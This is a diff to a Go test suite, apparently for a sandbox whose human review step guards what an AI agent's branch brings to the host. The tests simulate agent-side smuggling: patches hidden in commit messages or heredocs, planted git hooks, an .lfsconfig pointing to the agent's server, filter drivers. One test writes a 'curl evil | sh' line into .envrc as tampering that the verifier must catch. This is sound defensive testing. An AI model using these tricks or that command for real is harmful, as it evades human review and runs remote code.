@@ -26,19 +26,19 @@ var reviewAttacks = []attack{
 	{name: "milestone message carrying a patch", side: "agent", expect: "apply brings exactly base..tip (app.py); no innocent.txt or .envrc; the message is kept as text", run: func(t *testing.T, e *attackEnv) {
 		r, base := reviewRepo(t, e)
 		reviewBash(t, r, "echo 'print(2)' > app.py")
-		if _, err := r.Milestone(context.Background(), "w", "Fix the greeting\n\n"+smuggledPatch); err != nil {
+		if _, err := r.Agent.Milestone(context.Background(), "w", "Fix the greeting\n\n"+smuggledPatch); err != nil {
 			t.Fatal(err)
 		}
 		applyIn(t, r, false)
 		assertReviewed(t, r, base)
-		if body := testenv.Git(t, r.Root, "log", "-1", "--format=%b", "HEAD"); !strings.Contains(body, "diff --git a/.envrc b/.envrc") {
+		if body := testenv.Git(t, r.Repo.Root, "log", "-1", "--format=%b", "HEAD"); !strings.Contains(body, "diff --git a/.envrc b/.envrc") {
 			t.Errorf("the message was not kept as text: %q", body)
 		}
 	}},
 	{name: "bash command text carrying a patch", side: "agent", expect: "apply brings exactly base..tip (app.py); no innocent.txt or .envrc", run: func(t *testing.T, e *attackEnv) {
 		r, base := reviewRepo(t, e)
 		res := reviewBash(t, r, "echo 'print(2)' > app.py; cat > /dev/null <<'EOF'\n"+smuggledPatch+"EOF")
-		if body := testenv.Git(t, r.Root, "log", "-1", "--format=%b", res.Snapshot); !strings.Contains(body, "diff --git a/innocent.txt") {
+		if body := testenv.Git(t, r.Repo.Root, "log", "-1", "--format=%b", res.Snapshot); !strings.Contains(body, "diff --git a/innocent.txt") {
 			t.Fatalf("the snapshot's message does not carry the patch, so this row tests nothing: %q", body)
 		}
 		applyIn(t, r, false)
@@ -46,7 +46,7 @@ var reviewAttacks = []attack{
 	}},
 	{name: "hooks in a core.hooksPath inside the work tree", side: "agent", expect: "merge succeeds and runs none of the branch's hooks (no marker file); a commit by the user afterwards does run them", run: func(t *testing.T, e *attackEnv) {
 		r, base := reviewRepo(t, e)
-		testenv.Git(t, r.Root, "config", "core.hooksPath", ".githooks")
+		testenv.Git(t, r.Repo.Root, "config", "core.hooksPath", ".githooks")
 		markers := t.TempDir()
 		var script strings.Builder
 		script.WriteString("mkdir -p .githooks && ")
@@ -64,15 +64,15 @@ var reviewAttacks = []attack{
 		if ran, _ := os.ReadDir(markers); len(ran) > 0 {
 			t.Errorf("hooks ran during apply/merge: %v", ran)
 		}
-		if got := testenv.Git(t, r.Root, "show", "HEAD:n.txt"); got != "one\ntwo" {
+		if got := testenv.Git(t, r.Repo.Root, "show", "HEAD:n.txt"); got != "one\ntwo" {
 			t.Errorf("merged n.txt %q", got)
 		}
 		// The hooks are real: the user's own next commit runs them.
-		testenv.Git(t, r.Root, "commit", "-q", "--allow-empty", "-m", "probe")
+		testenv.Git(t, r.Repo.Root, "commit", "-q", "--allow-empty", "-m", "probe")
 		if _, err := os.Stat(filepath.Join(markers, "post-commit")); err != nil {
 			t.Errorf("the planted post-commit hook does not run even for the user's commit, so this row tests nothing: %v", err)
 		}
-		if got := testenv.Git(t, r.Root, "rev-list", "--count", base+"..HEAD"); got != "3" {
+		if got := testenv.Git(t, r.Repo.Root, "rev-list", "--count", base+"..HEAD"); got != "3" {
 			t.Errorf("%s commits on the host, want the 2 merged and the probe", got)
 		}
 	}},
@@ -82,17 +82,17 @@ var reviewAttacks = []attack{
 		reviewBash(t, r, "echo two >> n.txt")
 		applyIn(t, r, false)
 		reviewBash(t, r, "echo three >> n.txt")
-		tip := testenv.Git(t, r.Root, "rev-parse", "litterbox/w")
+		tip := testenv.Git(t, r.Repo.Root, "rev-parse", "litterbox/w")
 		if _, _, err := r.Merge(context.Background(), "w", review.Options{Stdout: io.Discard, Stderr: io.Discard}); err != nil {
 			t.Fatalf("merge after apply: %v", err)
 		}
-		if got, want := testenv.Git(t, r.Root, "rev-parse", "HEAD^{tree}"), testenv.Git(t, r.Root, "rev-parse", tip+"^{tree}"); got != want {
+		if got, want := testenv.Git(t, r.Repo.Root, "rev-parse", "HEAD^{tree}"), testenv.Git(t, r.Repo.Root, "rev-parse", tip+"^{tree}"); got != want {
 			t.Errorf("host tree %s, branch tree %s", got, want)
 		}
-		if got := testenv.Git(t, r.Root, "rev-list", "--count", base+"..HEAD"); got != "3" {
+		if got := testenv.Git(t, r.Repo.Root, "rev-list", "--count", base+"..HEAD"); got != "3" {
 			t.Errorf("%s commits on the host, want 3 (each snapshot once)", got)
 		}
-		if st := testenv.Git(t, r.Root, "status", "--porcelain"); st != "" {
+		if st := testenv.Git(t, r.Repo.Root, "status", "--porcelain"); st != "" {
 			t.Errorf("not clean after merge: %s", st)
 		}
 	}},
@@ -100,53 +100,53 @@ var reviewAttacks = []attack{
 		ctx := context.Background()
 		r, base := reviewRepo(t, e)
 		reviewBash(t, r, "echo 'print(2)' > app.py")
-		tip := testenv.Git(t, r.Root, "rev-parse", "litterbox/w")
-		if err := os.WriteFile(filepath.Join(r.Root, "README.md"), []byte("my edit\n"), 0o644); err != nil {
+		tip := testenv.Git(t, r.Repo.Root, "rev-parse", "litterbox/w")
+		if err := os.WriteFile(filepath.Join(r.Repo.Root, "README.md"), []byte("my edit\n"), 0o644); err != nil {
 			t.Fatal(err)
 		}
 		for _, squash := range []bool{false, true} {
-			saved := testenv.Git(t, r.Root, "rev-parse", "HEAD")
+			saved := testenv.Git(t, r.Repo.Root, "rev-parse", "HEAD")
 			// A pick that brings more than was reviewed, as a patch in a
 			// message once did.
 			if squash {
-				testenv.Git(t, r.Root, "cherry-pick", "--no-commit", base+".."+tip)
+				testenv.Git(t, r.Repo.Root, "cherry-pick", "--no-commit", base+".."+tip)
 			} else {
-				testenv.Git(t, r.Root, "cherry-pick", base+".."+tip)
+				testenv.Git(t, r.Repo.Root, "cherry-pick", base+".."+tip)
 			}
-			if err := os.WriteFile(filepath.Join(r.Root, ".envrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
+			if err := os.WriteFile(filepath.Join(r.Repo.Root, ".envrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
 				t.Fatal(err)
 			}
-			testenv.Git(t, r.Root, "add", ".envrc")
+			testenv.Git(t, r.Repo.Root, "add", ".envrc")
 			if !squash {
-				testenv.Git(t, r.Root, "commit", "-q", "--amend", "--no-edit")
+				testenv.Git(t, r.Repo.Root, "commit", "-q", "--amend", "--no-edit")
 			}
-			err := review.Verify(ctx, r.Git, base, tip, saved, squash)
+			err := review.Verify(ctx, r.Repo.Git, base, tip, saved, squash)
 			if err == nil || !strings.Contains(err.Error(), ".envrc") {
 				t.Fatalf("squash=%v: the check let a tampered outcome through: %v", squash, err)
 			}
-			if got := testenv.Git(t, r.Root, "rev-parse", "HEAD"); got != saved {
+			if got := testenv.Git(t, r.Repo.Root, "rev-parse", "HEAD"); got != saved {
 				t.Errorf("squash=%v: HEAD %s, want it restored to %s", squash, got, saved)
 			}
-			if got := testenv.Git(t, r.Root, "status", "--porcelain", "--untracked-files=all"); got != "M README.md" {
+			if got := testenv.Git(t, r.Repo.Root, "status", "--porcelain", "--untracked-files=all"); got != "M README.md" {
 				t.Errorf("squash=%v: after the restore: %q, want only the user's edit", squash, got)
 			}
 		}
 		// And the real apply meets the rule.
-		testenv.Git(t, r.Root, "checkout", "README.md")
+		testenv.Git(t, r.Repo.Root, "checkout", "README.md")
 		applyIn(t, r, false)
 		assertReviewed(t, r, base)
 	}},
 	{name: "an .lfsconfig naming the agent's LFS server, with a pointer whose object this machine lacks", side: "agent", expect: "diff names .lfsconfig as steering; apply contacts no server (the agent's listener gets no connection), writes the pointer as reviewed and names it, fills a file whose object this machine has, and leaves the work tree clean", run: func(t *testing.T, e *attackEnv) {
 		ctx := context.Background()
 		r := freshRepo(t, e, "")
-		testenv.Git(t, r.Root, "lfs", "install", "--local")
-		writeFile(t, filepath.Join(r.Root, ".gitattributes"), "*.bin filter=lfs diff=lfs merge=lfs -text\n")
-		testenv.Git(t, r.Root, "add", ".gitattributes")
-		testenv.Git(t, r.Root, "commit", "-q", "-m", "lfs")
+		testenv.Git(t, r.Repo.Root, "lfs", "install", "--local")
+		writeFile(t, filepath.Join(r.Repo.Root, ".gitattributes"), "*.bin filter=lfs diff=lfs merge=lfs -text\n")
+		testenv.Git(t, r.Repo.Root, "add", ".gitattributes")
+		testenv.Git(t, r.Repo.Root, "commit", "-q", "-m", "lfs")
 		if _, err := r.Create(ctx, CreateOptions{Name: "w"}); err != nil {
 			t.Fatal(err)
 		}
-		base := testenv.Git(t, r.Root, "rev-parse", "HEAD")
+		base := testenv.Git(t, r.Repo.Root, "rev-parse", "HEAD")
 		var contacted atomic.Int32
 		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
 			contacted.Add(1)
@@ -171,16 +171,16 @@ var reviewAttacks = []attack{
 		if !slices.Equal(applied.Pointers, []string{"remote.bin"}) {
 			t.Errorf("apply named %q as left as pointers, want remote.bin", applied.Pointers)
 		}
-		if got, want := readHostFile(t, r, "remote.bin"), testenv.Git(t, r.Root, "show", "litterbox/w:remote.bin")+"\n"; got != want {
+		if got, want := readHostFile(t, r, "remote.bin"), testenv.Git(t, r.Repo.Root, "show", "litterbox/w:remote.bin")+"\n"; got != want {
 			t.Errorf("remote.bin in the work tree %q, want the reviewed pointer %q", got, want)
 		}
 		if got := readHostFile(t, r, "local.bin"); got != "local content\n" {
 			t.Errorf("local.bin, whose object this machine has, is %q", got)
 		}
-		if st := testenv.Git(t, r.Root, "status", "--porcelain", "--untracked-files=all"); st != "" {
+		if st := testenv.Git(t, r.Repo.Root, "status", "--porcelain", "--untracked-files=all"); st != "" {
 			t.Errorf("the work tree after apply: %q", st)
 		}
-		if got := testenv.Git(t, r.Root, "diff", "--name-only", base, "HEAD"); got != ".lfsconfig\nlocal.bin\nremote.bin" {
+		if got := testenv.Git(t, r.Repo.Root, "diff", "--name-only", base, "HEAD"); got != ".lfsconfig\nlocal.bin\nremote.bin" {
 			t.Errorf("apply brought %q", got)
 		}
 	}},
@@ -190,22 +190,22 @@ var reviewAttacks = []attack{
 		ran := filepath.Join(t.TempDir(), "ran")
 		// The user's own filter and driver, for files their attributes
 		// do not name: each leaves a mark when it runs.
-		testenv.Git(t, r.Root, "config", "filter.mark.smudge", "touch "+runner.Quote(ran)+"; sed s/^/SMUDGED:/")
-		testenv.Git(t, r.Root, "config", "filter.mark.clean", "cat")
-		testenv.Git(t, r.Root, "config", "merge.mark.driver", "touch "+runner.Quote(ran)+"; false")
-		writeFile(t, filepath.Join(r.Root, "shared.txt"), "one\ntwo\nthree\n")
-		testenv.Git(t, r.Root, "add", "shared.txt")
-		testenv.Git(t, r.Root, "commit", "-q", "-m", "shared")
+		testenv.Git(t, r.Repo.Root, "config", "filter.mark.smudge", "touch "+runner.Quote(ran)+"; sed s/^/SMUDGED:/")
+		testenv.Git(t, r.Repo.Root, "config", "filter.mark.clean", "cat")
+		testenv.Git(t, r.Repo.Root, "config", "merge.mark.driver", "touch "+runner.Quote(ran)+"; false")
+		writeFile(t, filepath.Join(r.Repo.Root, "shared.txt"), "one\ntwo\nthree\n")
+		testenv.Git(t, r.Repo.Root, "add", "shared.txt")
+		testenv.Git(t, r.Repo.Root, "commit", "-q", "-m", "shared")
 		if _, err := r.Create(ctx, CreateOptions{Name: "w"}); err != nil {
 			t.Fatal(err)
 		}
-		base := testenv.Git(t, r.Root, "rev-parse", "HEAD")
+		base := testenv.Git(t, r.Repo.Root, "rev-parse", "HEAD")
 		reviewBash(t, r, "printf '* filter=mark merge=mark\\n' > .gitattributes && printf 'new\\n' > 'a b*.txt' && mkdir -p sub && printf 'deep\\n' > sub/x && sed -i s/one/ONE/ shared.txt")
 		// The user's own commit on the same file, so the pick merges it.
-		writeFile(t, filepath.Join(r.Root, "shared.txt"), "one\ntwo\nTHREE\n")
-		testenv.Git(t, r.Root, "commit", "-q", "-am", "user")
+		writeFile(t, filepath.Join(r.Repo.Root, "shared.txt"), "one\ntwo\nTHREE\n")
+		testenv.Git(t, r.Repo.Root, "commit", "-q", "-am", "user")
 		// A line of the user's own, and a block a killed apply left behind.
-		info := filepath.Join(r.GitDir, "info", "attributes")
+		info := filepath.Join(r.Repo.GitDir, "info", "attributes")
 		writeFile(t, info, "*.never -text\n# litterbox apply: attributes pinned to the user's own while it runs\n\"/shared.txt\" filter=mark\n# litterbox apply: end of pinned attributes\n")
 		applyIn(t, r, false)
 		if _, err := os.Stat(ran); err == nil {
@@ -216,7 +216,7 @@ var reviewAttacks = []attack{
 				t.Errorf("%s in the work tree %q, want %q", p, got, want)
 			}
 		}
-		if got := testenv.Git(t, r.Root, "diff", "--name-only", base+"^{tree}", "litterbox/w^{tree}"); got != ".gitattributes\na b*.txt\nshared.txt\nsub/x" {
+		if got := testenv.Git(t, r.Repo.Root, "diff", "--name-only", base+"^{tree}", "litterbox/w^{tree}"); got != ".gitattributes\na b*.txt\nshared.txt\nsub/x" {
 			t.Errorf("the branch brought %q", got)
 		}
 		if got := readHostFile(t, r, ".git/info/attributes"); got != "*.never -text\n" {
@@ -228,7 +228,7 @@ var reviewAttacks = []attack{
 // readHostFile is a file of the host's work tree.
 func readHostFile(t *testing.T, r *Manager, p string) string {
 	t.Helper()
-	b, err := os.ReadFile(filepath.Join(r.Root, p))
+	b, err := os.ReadFile(filepath.Join(r.Repo.Root, p))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -262,12 +262,12 @@ func reviewRepo(t *testing.T, e *attackEnv) (*Manager, string) {
 	if _, err := r.Create(context.Background(), CreateOptions{Name: "w"}); err != nil {
 		t.Fatal(err)
 	}
-	return r, testenv.Git(t, r.Root, "rev-parse", "HEAD")
+	return r, testenv.Git(t, r.Repo.Root, "rev-parse", "HEAD")
 }
 
 func reviewBash(t *testing.T, r *Manager, cmd string) *agent.ActResult {
 	t.Helper()
-	res, err := r.Bash(context.Background(), "w", agent.BashOptions{Command: cmd})
+	res, err := r.Agent.Bash(context.Background(), "w", agent.BashOptions{Command: cmd})
 	if err != nil || res.Snapshot == "" {
 		t.Fatalf("bash %q: %+v %v", cmd, res, err)
 	}
@@ -285,11 +285,11 @@ func applyIn(t *testing.T, r *Manager, squash bool) {
 // the smuggled files are nowhere.
 func assertReviewed(t *testing.T, r *Manager, base string) {
 	t.Helper()
-	if got, want := testenv.Git(t, r.Root, "diff", "--name-status", base, "HEAD"), testenv.Git(t, r.Root, "diff", "--name-status", base, "litterbox/w"); got != want || want != "A\tapp.py" {
+	if got, want := testenv.Git(t, r.Repo.Root, "diff", "--name-status", base, "HEAD"), testenv.Git(t, r.Repo.Root, "diff", "--name-status", base, "litterbox/w"); got != want || want != "A\tapp.py" {
 		t.Errorf("the host got %q, the review showed %q", got, want)
 	}
 	for _, f := range []string{"innocent.txt", ".envrc"} {
-		if _, err := os.Lstat(filepath.Join(r.Root, f)); err == nil {
+		if _, err := os.Lstat(filepath.Join(r.Repo.Root, f)); err == nil {
 			t.Errorf("%s reached the host", f)
 		}
 	}
